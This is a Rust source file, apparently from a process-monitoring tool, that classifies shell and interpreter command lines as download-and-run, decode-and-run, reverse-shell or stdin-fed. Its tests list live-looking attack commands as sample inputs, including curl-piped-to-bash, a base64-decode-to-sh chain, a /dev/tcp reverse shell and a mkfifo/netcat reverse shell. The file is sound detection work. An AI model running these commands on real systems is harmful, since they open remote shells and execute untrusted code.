//! Code on the command line: `sh -c SCRIPT`, `python -c CODE`, and a shell that is fed.

use crate::analyse::command::{Effects, runs};
use crate::event::Exec;
use crate::facts::{Facts, Field};
use crate::names::{base_name, plain_name};
use crate::script::{self, Command};
use crate::words::Words;

/// Looks into the code an exec carries.
pub(super) fn code<'a>(words: &'a Words, exec: &Exec<'a>, facts: &mut Facts<'a>) {
    let shell = facts.has(Field::Class, "shell");
    if !shell && !facts.has(Field::Class, "interpreter") {
        return;
    }
    if let Some(script) = inline_code(exec, shell) {
        facts.add(Field::Script, "inline");
        if shell {
            shell_script(words, exec, script, facts);
        }
    } else if shell && reads_stdin(exec) {
        facts.add(Field::Script, "stdin");
    }
    if shell && exec.argv.iter().skip(1).any(|word| *word == "-i" || *word == "-li" || *word == "-il") {
        facts.add(Field::Script, "interactive");
    }
}

/// The code of `-c`, `-e`, `-r` and the like; for a shell also of `-lc`.
fn inline_code<'a>(exec: &Exec<'a>, shell: bool) -> Option<&'a str> {
    let at = exec.argv.iter().position(|word| {
        let Some(short) = word.strip_prefix('-').filter(|short| !short.starts_with('-')) else { return false };
        let letters = short.len() <= 6 && short.bytes().all(|byte| byte.is_ascii_alphabetic());
        letters && if shell { short.ends_with('c') } else { short.ends_with(['c', 'e', 'r', 'E']) }
    });
    match at {
        Some(at) => exec.argv.get(at + 1).copied(),
        // An awk's program is its first operand.
        None if exec.argv.first().is_some_and(|own| plain_name(own).ends_with("awk")) => {
            exec.argv.iter().skip(1).find(|word| !word.starts_with('-')).copied()
        }
        None => None,
    }
}

/// A shell without a script of its own takes what comes.
fn reads_stdin(exec: &Exec<'_>) -> bool {
    let own = exec.argv.first().copied().unwrap_or_default();
    // A login shell is somebody's; a script's shell has its path among the arguments.
    !own.starts_with('-')
        && exec.argv.iter().skip(1).all(|word| word.starts_with(['-', '+']) && *word != "--login" || *word == "/dev/stdin")
}

fn shell_script<'a>(words: &'a Words, exec: &Exec<'a>, script: &str, facts: &mut Facts<'a>) {
    let commands = script::commands(script);
    let programs: Vec<&str> = commands.iter().map(program_of).collect();
    let is = |index: usize, class: &str| programs.get(index).is_some_and(|name| words.is_program(name, class));
    for (index, command) in commands.iter().enumerate() {
        let program = programs[index];
        runs(words, program, facts);
        let mut effects = Effects { words, cwd: exec.cwd, facts };
        let arguments: Vec<&str> = command.words.iter().skip(1).map(String::as_str).collect();
        effects.of(&[base_name(program), plain_name(program)], &arguments);
        for path in &command.writes {
            effects.written(path, matches!(program, "" | ":" | "true" | "echo" | "cat") && arguments.is_empty());
        }
        command.reads.iter().for_each(|path| effects.read(path));
        let fed = is_fed(command, program, words);
        for before in sources(&commands, index).filter(|_| fed) {
            if is(before, "fetcher") {
                facts.add(Field::Script, "download_run");
            }
            if decodes(&commands[before], programs[before]) {
                facts.add(Field::Script, "decode_run");
            }
            if is(before, "netcat") {
                facts.add(Field::Script, "reverse_shell");
            }
        }
        // `mkfifo f; cat f | sh -i | nc host port > f`
        if is(index, "netcat") || matches!(program, "telnet" | "openssl") {
            let shells = sources(&commands, index).any(|before| is(before, "shell"));
            if shells {
                facts.add(Field::Script, "reverse_shell");
            }
        }
        let sockets = command.writes.iter().chain(&command.reads).any(|path| {
            path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
        });
        if sockets && (is(index, "shell") || program == "exec") {
            facts.add(Field::Script, "reverse_shell");
        }
    }
}

/// The program of a command, behind what only wraps it.
fn program_of(command: &Command) -> &str {
    const THROUGH: &[&str] = &[
        "sudo", "env", "nohup", "exec", "command", "builtin", "time", "if", "then", "else", "elif", "do", "while", "until",
        "!", "-E", "-n", "-H", "busybox", "setsid", "stdbuf", "xargs", "coproc",
    ];
    let mut words = command.words.iter().map(String::as_str);
    let program = words.find(|word| !(THROUGH.contains(word) || word.contains('=') && !word.starts_with(['-', '/'])));
    // `exec 3<>/dev/tcp/...` has none behind it.
    program.or_else(|| command.words.first().map(String::as_str)).unwrap_or_default()
}

/// Whether what comes in is run.
fn is_fed(command: &Command, program: &str, words: &Words) -> bool {
    if matches!(program, "eval" | "source" | ".") {
        return true;
    }
    let name = plain_name(program);
    if words.is_program(name, "shell") {
        return true;
    }
    // `| python -m json.tool`, `| perl -pe ...`: the pipe is data there, not code.
    matches!(name, "python" | "perl" | "ruby" | "php" | "node" | "lua") && command.words.len() < 3
        && !command.words.iter().skip(1).any(|word| word.len() > 1 && word.starts_with('-'))
}

/// The commands whose output a command gets, through pipes or as part of its words.
fn sources(commands: &[Command], index: usize) -> impl Iterator<Item = usize> {
    let piped = std::iter::successors(commands[index].piped_from, |before| commands.get(*before)?.piped_from);
    let inside = commands.iter().enumerate().filter(move |(_, command)| command.inside == Some(index)).map(|(at, _)| at);
    piped.take(commands.len()).chain(inside)
}

fn decodes(command: &Command, program: &str) -> bool {
    let has = |flags: &[&str]| command.words.iter().skip(1).any(|word| flags.contains(&word.as_str()));
    match base_name(program) {
        "base64" | "base32" | "basenc" => has(&["-d", "-D", "--decode", "-di"]),
        "xxd" => has(&["-r", "-rp"]) || command.words.iter().any(|word| word.starts_with("-r")),
        "openssl" => has(&["base64", "enc", "-base64"]) && has(&["-d", "-D"]),
        "gpg" => has(&["-d", "--decrypt"]),
        "uudecode" | "rev" => true,
        "tr" => command.words.iter().any(|word| word.to_ascii_lowercase().contains("n-za-m")),
        _ => command.words.iter().any(|word| word.contains("{base64,-d}")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyse;

    fn labels(argv: &[&'static str]) -> Vec<String> {
        let words = Words::parse(crate::pack::WORDS).unwrap();
        let line = argv.join(" ");
        let exec =
            Exec { exe: argv[0], filename: argv[0], argv: argv.to_vec(), command_line: &line, ..Exec::default() };
        let facts = analyse::exec(&words, &exec);
        facts.get(Field::Script).iter().map(|label| label.to_string()).collect()
    }

    #[test]
    fn downloads_and_decoded_text_that_are_run() {
        for script in [
            "curl -sS http://203.0.113.9/x.sh | sudo bash",
            "bash -c \"$(curl -fsSL http://203.0.113.9/x.sh)\"",
            "cd /tmp; wget -qO- http://203.0.113.9/x | tee x | sh",
            "eval `curl -s h`",
            ". <(curl -s h)",
        ] {
            assert!(labels(&["sh", "-c", script]).contains(&"download_run".to_owned()), "{script}");
        }
        assert!(labels(&["sh", "-c", "echo aWQ= | base64 -d | sh"]).contains(&"decode_run".to_owned()));
        for script in ["curl -s h | grep ok", "curl -s h | python3 -m json.tool", "echo aWQ= | base64 -d > x"] {
            assert_eq!(labels(&["sh", "-c", script]), ["inline"], "{script}");
        }
    }

    #[test]
    fn shells_on_sockets() {
        for script in [
            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 1 > /tmp/f",
            "exec 5<>/dev/tcp/203.0.113.7/1",
        ] {
            assert!(labels(&["bash", "-c", script]).contains(&"reverse_shell".to_owned()), "{script}");
        }
        assert!(!labels(&["sh", "-c", "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'"]).contains(&"reverse_shell".to_owned()));
    }

    #[test]
    fn a_shell_that_is_fed() {
        assert_eq!(labels(&["sh"]), ["stdin"]);
        assert_eq!(labels(&["bash", "-s"]), ["stdin"]);
        assert_eq!(labels(&["-bash"]), [""; 0]);
        assert_eq!(labels(&["bash", "x.sh"]), [""; 0]);
    }
}
